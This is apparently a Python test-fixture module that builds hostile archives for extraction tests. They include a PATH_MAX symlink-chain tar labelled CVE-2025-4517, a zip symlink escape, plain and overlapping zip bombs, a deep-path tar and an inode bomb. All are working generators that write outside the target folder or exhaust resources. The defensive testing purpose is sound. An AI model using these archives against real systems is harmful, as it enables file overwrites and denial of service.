"""Hostile archives for the extraction tests, built in the test (nothing downloaded), and a
snapshot of a folder tree to show that nothing was written beside the target."""

from __future__ import annotations

import hashlib
import io
import os
import stat
import tarfile
import zipfile
import zlib
from pathlib import Path

# a component of 247 characters: 16 of them nest deeper than PATH_MAX (4096) on Linux
PATHMAX_COMPONENT = "d" * 247
PATHMAX_STEPS = "abcdefghijklmnop"


def tree_snapshot(folder: Path) -> dict[str, str]:
    """{relative path: sha256 of a file / 'dir' / 'link -> target'} of everything under ``folder``."""
    out = {}
    for root, dirs, files in os.walk(folder):
        for name in dirs + files:
            path = Path(root) / name
            rel = str(path.relative_to(folder))
            if path.is_symlink():
                out[rel] = f"link -> {os.readlink(path)}"
            elif path.is_dir():
                out[rel] = "dir"
            else:
                out[rel] = hashlib.sha256(path.read_bytes()).hexdigest()
    return out


def _add(tf: tarfile.TarFile, name: str, type_: bytes = tarfile.REGTYPE, linkname: str = "", data: bytes | None = None):
    info = tarfile.TarInfo(name)
    info.type = type_
    info.linkname = linkname
    if data is not None:
        info.size = len(data)
        tf.addfile(info, io.BytesIO(data))
    else:
        tf.addfile(info)


def pathmax_symlink_chain_tar(path: Path, payload: bytes = b"pwned", mode: str = "w") -> Path:
    """The CVE-2025-4517 chain: 16 nested folders of 247 characters, each reached through a
    one-letter symlink, so ``a/b/.../p`` resolves deeper than PATH_MAX; ``os.path.realpath`` stops
    resolving there and the ``data`` filter of Python 3.11.7 checks the rest as text. A link at the
    bottom climbs back to the extraction folder (``../`` * 16), ``escape`` points one level above it
    through that link, and ``escape/pwned.txt`` lands beside the extraction folder."""
    with tarfile.open(path, mode) as tf:
        parent = ""
        for step in PATHMAX_STEPS:
            _add(tf, os.path.join(parent, PATHMAX_COMPONENT), tarfile.DIRTYPE)
            _add(tf, os.path.join(parent, step), tarfile.SYMTYPE, PATHMAX_COMPONENT)
            parent = os.path.join(parent, PATHMAX_COMPONENT)
        deep_link = os.path.join(*PATHMAX_STEPS, "l" * 254)
        _add(tf, deep_link, tarfile.SYMTYPE, "../" * len(PATHMAX_STEPS))
        _add(tf, "escape", tarfile.SYMTYPE, deep_link + "/..")
        _add(tf, "escape/pwned.txt", data=payload)
    return path


def hardlink_tar(path: Path) -> Path:
    """A hard link to a file inside the archive (harmless by itself; links are refused all the same)."""
    with tarfile.open(path, "w") as tf:
        _add(tf, "top/x.txt", data=b"x")
        _add(tf, "top/h", tarfile.LNKTYPE, "top/x.txt")
    return path


def _zip_symlink(zf: zipfile.ZipFile, name: str, target: str) -> None:
    info = zipfile.ZipInfo(name)
    info.external_attr = (stat.S_IFLNK | 0o777) << 16  # how zip records a Unix symlink
    zf.writestr(info, target)


def zip_symlink_chain(path: Path, payload: bytes = b"pwned") -> Path:
    """``a/b/c/d/up -> ../../../..`` (the extraction folder itself, which text checks accept),
    ``x -> a/b/c/d/up/..`` (text: ``a/b/c``; on disk: one above the extraction folder), then
    ``x/pwned.txt``, written beside the extraction folder by a naive extractor."""
    with zipfile.ZipFile(path, "w") as zf:
        zf.writestr("a/b/c/d/readme.txt", b"fine")
        _zip_symlink(zf, "a/b/c/d/up", "../../../..")
        _zip_symlink(zf, "x", "a/b/c/d/up/..")
        zf.writestr("x/pwned.txt", payload)
    return path


def zip_bomb(path: Path, size: int = 50 * 1024 * 1024) -> Path:
    """One member of ``size`` zero bytes, deflated to about 1/1000 of it."""
    with zipfile.ZipFile(path, "w", compression=zipfile.ZIP_DEFLATED) as zf:
        with zf.open("zeros.bin", "w") as out:
            block = bytes(1 << 20)
            for _ in range(size // len(block)):
                out.write(block)
    return path


def tar_bomb(path: Path, size: int = 50 * 1024 * 1024) -> Path:
    """A gzipped tar holding ``size`` zero bytes in one member."""
    with tarfile.open(path, "w:gz") as tf:
        info = tarfile.TarInfo("zeros.bin")
        info.size = size

        class Zeros:
            left = size

            def read(self, n: int = -1) -> bytes:
                n = self.left if n < 0 else min(n, self.left)
                self.left -= n
                return bytes(n)

        tf.addfile(info, Zeros())
    return path


def _local_header(name: bytes, crc: int, packed: int, size: int) -> bytes:
    return (b"PK\x03\x04" + (20).to_bytes(2, "little") + bytes(2) + (8).to_bytes(2, "little") + bytes(4)
            + crc.to_bytes(4, "little") + packed.to_bytes(4, "little") + size.to_bytes(4, "little")
            + len(name).to_bytes(2, "little") + bytes(2) + name)


def _central_entry(name: bytes, crc: int, packed: int, size: int, offset: int) -> bytes:
    return (b"PK\x01\x02" + (20).to_bytes(2, "little") + (20).to_bytes(2, "little") + bytes(2)
            + (8).to_bytes(2, "little") + bytes(4) + crc.to_bytes(4, "little") + packed.to_bytes(4, "little")
            + size.to_bytes(4, "little") + len(name).to_bytes(2, "little") + bytes(8)
            + (0o100644 << 16).to_bytes(4, "little") + offset.to_bytes(4, "little") + name)


def overlapping_zip_bomb(path: Path, members: int = 40, kernel_size: int = (1 << 20) - 4096) -> Path:
    """The overlapping zip bomb (Fifield's construction): one DEFLATE kernel of just under 1 MiB of
    zeros, shared by every member. Member i's data is a stored block quoting member i+1's local
    header, then member i+1's data; so the members together unpack to ``members`` MiB from a few
    KB, while the per-member ratio check sees each member's size against its own (overlapping)
    compressed size. Python 3.11.7's ``zipfile`` reads it without complaint (3.11.8 added an
    overlap check)."""
    comp = zlib.compressobj(9, zlib.DEFLATED, -15)
    kernel = comp.compress(bytes(kernel_size)) + comp.flush()
    zeros_crc = zlib.crc32(bytes(kernel_size))
    names = [f"part{i:04d}.bin".encode() for i in range(members)]
    headers: list[bytes] = [b""] * members
    sizes: list[tuple[int, int, int]] = [(0, 0, 0)] * members  # crc, packed, size
    data, quoted_all = kernel, b""  # member i's compressed data; the local headers it quotes
    for i in range(members - 1, -1, -1):
        if i < members - 1:
            quoted = headers[i + 1]
            data = b"\x00" + len(quoted).to_bytes(2, "little") + (0xFFFF ^ len(quoted)).to_bytes(2, "little") + quoted + data
            quoted_all = quoted + quoted_all
        crc = zlib.crc32(bytes(kernel_size), zlib.crc32(quoted_all)) if quoted_all else zeros_crc
        sizes[i] = (crc, len(data), len(quoted_all) + kernel_size)
        headers[i] = _local_header(names[i], *sizes[i])
    # the file: header 0, then member 0's data, which holds every other header and the kernel
    body = headers[0] + data
    offsets, at = [], 0
    for i in range(members):
        offsets.append(at)
        at += len(headers[i]) + 5  # the next header starts after this one and a stored-block header
    central = b"".join(_central_entry(names[i], *sizes[i], offsets[i]) for i in range(members))
    end = (b"PK\x05\x06" + bytes(4) + members.to_bytes(2, "little") * 2 + len(central).to_bytes(4, "little")
           + len(body).to_bytes(4, "little") + bytes(2))
    path.write_bytes(body + central + end)
    return path


def many_small_members_zip(path: Path, members: int = 24, size: int = 1 << 20) -> Path:
    """``members`` separate members of ``size`` zeros each: none passes the 1 MiB floor of the
    per-member ratio check, but together they unpack ~1,000 times the archive's size."""
    with zipfile.ZipFile(path, "w", compression=zipfile.ZIP_DEFLATED, compresslevel=9) as zf:
        for i in range(members):
            zf.writestr(f"zeros{i:03d}.bin", bytes(size))
    return path


def deep_path_tar(path: Path, levels: int = 2100) -> Path:
    """A gzipped tar of one file ``a/a/.../a/x`` ``levels`` deep (a few hundred bytes): a naive
    extractor nests folders until the path passes PATH_MAX, and recursive clean-up then fails."""
    name = "a/" * levels + "x"
    with tarfile.open(path, "w:gz", format=tarfile.GNU_FORMAT) as tf:
        _add(tf, name, data=b"x")
    return path


def many_members_tar(path: Path, members: int) -> Path:
    """A gzipped tar of ``members`` empty files (an inode bomb)."""
    with tarfile.open(path, "w:gz") as tf:
        for i in range(members):
            _add(tf, f"m/{i:06d}", data=b"")
    return path
